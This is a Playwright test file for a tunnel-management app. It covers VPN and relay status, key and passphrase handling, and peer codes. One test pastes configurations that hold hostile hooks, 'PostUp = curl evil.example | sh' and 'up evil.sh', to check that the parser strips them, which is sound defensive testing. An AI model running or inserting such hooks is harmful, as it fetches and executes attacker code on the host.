import { readFile } from "node:fs/promises";
import type { Page } from "@playwright/test";
import type { TunnelPeer, Tunnel } from "#core/tunnel/tunnel.ts";
import { en } from "#core/text/en.ts";
import { de } from "#core/text/de.ts";
import type { FakeSite } from "./fake-observations.ts";
import { calmRoutes } from "./fake-routes.ts";
import { writeRevision } from "./fake-survey.ts";
import { KIT_PASSPHRASE, openTunnel, PEER_KEY, SITE_KEY } from "./fake-tunnels.ts";
import { checkedSite, walkAt } from "./fake-walk.ts";
import type { AppWindow } from "./pages/app-window.ts";
import { textOfQrCode } from "./pages/qr-code-in-view.ts";
import { expect, expectAccessible, test } from "./renderer-fixture.ts";
import type { FakeShell } from "./serve-fake.ts";

const { ui, uiTunnels } = en;
const fill = (text: string, args: Record<string, string>): string =>
  Object.entries(args).reduce((all, [key, value]) => all.replace(`{{${key}}}`, value), text);

const VPN = fill(uiTunnels.name.vpn, { server: "Hub Nürnberg" });
const RELAY = fill(uiTunnels.name.relay, { server: "Hub Nürnberg" });
const ANNA: TunnelPeer = {
  id: "peer-anna",
  name: "Anna, iPhone",
  role: "customer",
  publicKey: "x",
  address: "10.88.0.20",
  addedAt: "2026-11-02T09:00:00Z",
};

const tunnel = (kind: "wireguard" | "ssh", changes: Partial<Tunnel> = {}): Tunnel => ({
  id: kind,
  kind,
  serverId: "hub",
  serverName: "Hub Nürnberg",
  host: "vpn.example.net",
  platform: "linux",
  lan: "192.168.1.0/24",
  mapped: "10.96.3.0/24",
  peers: [],
  published: [
    {
      id: "rtsp",
      address: "192.168.1.108",
      transport: "tcp",
      port: 554,
      use: "stream",
      serverPort: 20_001,
      listen: "server",
    },
  ],
  madeAt: "2026-11-02T09:00:00Z",
  installedAt: "2026-11-03T09:00:00Z",
  ...changes,
});

function siteWith(shell: FakeShell, tunnels: Tunnel[], line: FakeSite = "cgnat"): string {
  const siteId = checkedSite(shell, line);
  const site = shell.store.sites.get(siteId);
  if (site === undefined) throw new Error("no such site");
  writeRevision(shell.store, site, { ...site.document, tunnels });
  return siteId;
}

async function openSite(page: Page, siteId: string) {
  await page.evaluate((site) => (window.location.hash = `#/sites/${site}`), siteId);
  const card = page.getByRole("region", { name: uiTunnels.title });
  await expect(card).toBeVisible();
  return card;
}

async function openFiles(app: AppWindow, shell: FakeShell, changes: Partial<Tunnel> = {}) {
  await openSite(app.page, siteWith(shell, [tunnel("wireguard", changes)]));
  await app.page.getByRole("button", { name: fill(uiTunnels.files.buttonOf, { name: VPN }) }).click();
  const dialog = app.dialog(fill(uiTunnels.files.titleOf, { name: VPN }));
  await expect(dialog.getByText(uiTunnels.files.secretTitle)).toBeVisible();
  return dialog;
}

test("what stands is said in plain words, and a test through it shows what the path carries", async ({
  app,
  page,
  shell,
}) => {
  const card = await openSite(page, siteWith(shell, [tunnel("wireguard"), tunnel("ssh", { installedAt: null })]));
  await expect(card.getByRole("listitem")).toHaveCount(2);
  await expect(card).toContainText(uiTunnels.proof.never);
  await expectAccessible(page, "tunnels never tested");
  shell.store.tunnels.proof = { stream: { mbps: 2.1, seconds: 5, lostPackets: 3, codec: "H.264", wantedMbps: 4 } };
  const run = card.getByRole("button", { name: fill(uiTunnels.proof.runOf, { name: VPN }) });
  await run.press("Enter");
  await expect(app.announcement).toContainText(uiTunnels.proof.through);
  await expect(run).toBeFocused();
  await card.getByRole("button", { name: uiTunnels.proof.seen }).click();
  await card.getByRole("button", { name: /TCP 554/ }).click();
  await expect(card).toContainText(fill(uiTunnels.proof.streamWanted, { mbps: "2.1", seconds: "5", wanted: "4" }));
  await expect(card).toContainText("24\u00a0ms");
  await expectAccessible(page, "proven through the tunnel");
});

test("a proof that is too old is no proof any more", async ({ app, page, shell }) => {
  const siteId = siteWith(shell, [tunnel("wireguard")]);
  await shell.host.tunnels.prove({ siteId, tunnelId: "wireguard", reconnect: false });
  const [record] = shell.store.proofs.get(siteId) ?? [];
  if (record) shell.store.proofs.set(siteId, [{ ...record, startedAt: "2026-01-02T09:00:00Z" }]);
  shell.store.sites.forEach((site) =>
    writeRevision(shell.store, site, {
      ...site.document,
      tunnels: [tunnel("wireguard", { madeAt: "2026-01-01T09:00:00Z" })],
    }),
  );
  const card = await openSite(page, siteId);
  await expect(card).toContainText(uiTunnels.proof.old);
  await expect(card.getByText(uiTunnels.proof.proven, { exact: true })).toHaveCount(0);
  await expect(app.title).toBeVisible();
});

test("a relay is opened from here, and what breaks it is said with what to do", async ({ app, page, shell }) => {
  const card = await openSite(page, siteWith(shell, [tunnel("ssh")]));
  await card.getByRole("button", { name: fill(uiTunnels.live.openOf, { name: RELAY }) }).click();
  await expect(card).toContainText(uiTunnels.live.state.open);
  await expect(card).toContainText("48 MB");
  await expectAccessible(page, "relay open");
  const { live, watchers } = shell.store.tunnels;
  live.set("ssh", {
    ...openTunnel(tunnel("ssh")),
    state: { kind: "reconnecting", fault: { kind: "lost", by: "network" }, nextTryInMs: 4_000 },
  });
  watchers.forEach((tell) => tell());
  await expect(card).toContainText(fill(en.relay.fault["lost-network"], { host: "vpn.example.net" }));
  await expect(app.announcement).toContainText(uiTunnels.live.state.reconnecting);
  await expectAccessible(page, "relay connecting again");
  await card.getByRole("button", { name: fill(uiTunnels.live.closeOf, { name: RELAY }) }).click();
  await expect(card.getByRole("button", { name: fill(uiTunnels.live.openOf, { name: RELAY }) })).toBeFocused();
});

test("files are looked at without the key, and saved with it", async ({ app, page, shell }) => {
  const dialog = await openFiles(app, shell);
  await dialog.getByRole("button", { name: uiTunnels.files.show }).click();
  await expect(dialog).toContainText("<private-key>");
  await expectAccessible(page, "files of the site's end");
  const download = page.waitForEvent("download");
  await dialog.getByRole("button", { name: /^Save / }).click();
  expect(await readFile(await (await download).path(), "utf8")).toContain(SITE_KEY);
  expect(await page.content()).not.toContain(SITE_KEY);
  expect(shell.store.tunnels.handedOut).toEqual(["site linux"]);
  await dialog.getByRole("radio", { name: uiTunnels.files.ends.server }).click();
  await expect(dialog).toContainText("peers.conf");
  await expect(dialog.getByText(uiTunnels.files.secretTitle)).toHaveCount(0);
});

test("values to type stand for themselves; the key among them is only copied", async ({ app, page, shell }) => {
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  const dialog = await openFiles(app, shell, { platform: "pfsense" });
  const values = dialog.getByRole("list", { name: uiTunnels.files.values });
  await expect(values).toContainText("vpn.example.net");
  await expect(values).toContainText(uiTunnels.files.masked);
  await expect(values).not.toContainText("<private-key>");
  await expectAccessible(page, "values to type");
  const what = en.vpnVendor.value["private-key"];
  await values.getByRole("button", { name: fill(uiTunnels.files.copyValue, { what }) }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(SITE_KEY);
  expect(await page.content()).not.toContain(SITE_KEY);
});

test("the kit's passphrase is shown once, and does not get lost by accident", async ({ app, page, shell }) => {
  const files = await openFiles(app, shell);
  await files.getByRole("radio", { name: uiTunnels.files.ends.kit }).click();
  await files.getByRole("button", { name: uiTunnels.kit.make }).click();
  const dialog = app.dialog(uiTunnels.kit.readyTitle);
  await expect(dialog).toContainText(KIT_PASSPHRASE);
  await expectAccessible(page, "the kit's passphrase");
  await page.keyboard.press("Escape");
  await app.dialog(uiTunnels.kit.lostTitle).getByRole("button", { name: uiTunnels.kit.back }).click();
  await dialog.getByRole("button", { name: uiTunnels.kit.done }).click();
  await expect(dialog).toContainText(uiTunnels.kit.tickFirst);
  await expect(dialog).toContainText(uiTunnels.kit.saveFirst);
  const download = page.waitForEvent("download");
  await dialog.getByRole("button", { name: uiTunnels.kit.save, exact: true }).click();
  expect((await download).suggestedFilename()).toBe("farsite-box.zip");
  await dialog.getByRole("checkbox", { name: uiTunnels.kit.written }).check();
  await dialog.getByRole("button", { name: uiTunnels.kit.done }).click();
  await expect(dialog).toHaveCount(0);
  expect(await page.content()).not.toContain(KIT_PASSPHRASE);
});

test("in a walk-through: who may use it, each with a code, added and taken out", async ({ app, page, shell }) => {
  const siteId = siteWith(shell, [tunnel("wireguard", { peers: [ANNA] })], "proven");
  const { walk } = await walkAt(shell, siteId, "port-forward", "preflight");
  shell.plan({ routes: { ...calmRoutes, parts: [{ kind: "tunnel-peers", tunnelId: "wireguard" }] } });
  await page.evaluate(([site, id]) => (window.location.hash = `#/sites/${site}/walks/${id}`), [siteId, walk.id]);
  const card = page.getByRole("region", { name: uiTunnels.peers.title });
  await card.getByRole("button", { name: uiTunnels.peers.add }).click();
  await expect(card.getByText(uiTunnels.peers.nameMissing)).toBeVisible();
  const name = card.getByRole("textbox", { name: uiTunnels.peers.name });
  await expect(name).toBeFocused();
  await name.fill("Ben, laptop");
  await page.keyboard.press("Enter");
  await expect(card.getByRole("list", { name: uiTunnels.peers.list }).getByRole("listitem")).toHaveCount(2);
  await expect(name).toBeFocused();
  await expectAccessible(page, "who may use it");
  await card.getByRole("button", { name: fill(uiTunnels.peers.showOf, { name: ANNA.name }) }).click();
  const code = app.dialog(fill(uiTunnels.peers.codeTitle, { name: ANNA.name }));
  await expect(code).toContainText(uiTunnels.peers.codeText);
  expect(await textOfQrCode(page, code)).toContain(PEER_KEY);
  await expectAccessible(page, "a device's code");
  await code.getByRole("button", { name: ui.common.close }).click();
  await expect(code).toHaveCount(0);
  expect(await page.content()).not.toContain(PEER_KEY);
  await card.getByRole("button", { name: fill(uiTunnels.peers.removeOf, { name: ANNA.name }) }).click();
  await app
    .dialog(fill(uiTunnels.peers.removeTitle, { name: ANNA.name }))
    .getByRole("button", { name: uiTunnels.peers.remove })
    .click();
  const list = card.getByRole("list", { name: uiTunnels.peers.list });
  await expect(list.getByRole("listitem")).toHaveCount(1);
  await expect(list).not.toContainText(ANNA.name);
});

test("after removing, what is left to do stays in view until it is read", async ({ app, page, shell }) => {
  const card = await openSite(page, siteWith(shell, [tunnel("wireguard")]));
  await card.getByRole("button", { name: fill(uiTunnels.remove.of, { name: VPN }) }).click();
  await app.dialog().getByRole("button", { name: uiTunnels.remove.button }).click();
  const left = app.notice(fill(uiTunnels.remove.leftTitle, { name: VPN }));
  await expect(left).toContainText(en.tunnel.left.site);
  await expect(left.getByRole("button", { name: ui.common.close })).toBeFocused();
  await expectAccessible(page, "what is left to do");
  await left.getByRole("button", { name: ui.common.close }).click();
  await expect(card).toHaveCount(0);
});

test("a pasted configuration is read, the worst first, and kept nowhere", async ({ app, page, shell }) => {
  const siteId = siteWith(shell, []);
  await page.evaluate((site) => (window.location.hash = `#/sites/${site}/routes`), siteId);
  await page.getByRole("button", { name: uiTunnels.config.button }).click();
  const dialog = app.dialog(uiTunnels.config.title);
  await dialog.getByRole("button", { name: uiTunnels.config.read }).click();
  await expect(dialog.getByRole("textbox")).toBeFocused();
  await dialog
    .getByRole("textbox")
    .fill(
      `[Interface]\nPrivateKey = ${SITE_KEY}\nAddress = 10.0.0.2/32\nPostUp = curl evil.example | sh\n\n[Peer]\nPublicKey = ${PEER_KEY}\nAllowedIPs = 0.0.0.0/0\nEndpoint = 203.0.113.5:51820\n`,
    );
  await dialog.getByRole("button", { name: uiTunnels.config.read }).click();
  await expect(dialog).toContainText(uiTunnels.config.kind.wireguard);
  await expect(dialog.getByRole("group", { name: uiTunnels.config.narrowed })).not.toContainText("curl");
  await expectAccessible(page, "a configuration that was read");
  await dialog.getByRole("textbox").fill("client\nremote vpn.example 1194\nremote-cert-tls server\nup evil.sh\n");
  await dialog.getByRole("button", { name: uiTunnels.config.read }).click();
  await expect(dialog).toContainText(uiTunnels.config.kind.openvpn);
  await expect(dialog.getByRole("group", { name: uiTunnels.config.narrowed })).not.toContainText("evil");
  await dialog.getByRole("button", { name: ui.common.close }).click();
  await page.getByRole("button", { name: uiTunnels.config.button }).click();
  await expect(dialog.getByRole("textbox")).toHaveValue("");
});

test("German fits the smallest window", async ({ page, shell, app }) => {
  shell.store.settings = { ...shell.store.settings, locale: "de" };
  await page.setViewportSize({ width: 1_024, height: 640 });
  await page.reload();
  await page.goto(shell.link());
  const siteId = siteWith(shell, [tunnel("wireguard"), tunnel("ssh")]);
  await page.evaluate((site) => (window.location.hash = `#/sites/${site}`), siteId);
  await expect(page.getByRole("region", { name: de.uiTunnels.title })).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1_024);
  await expect(app.title).toBeVisible();
});
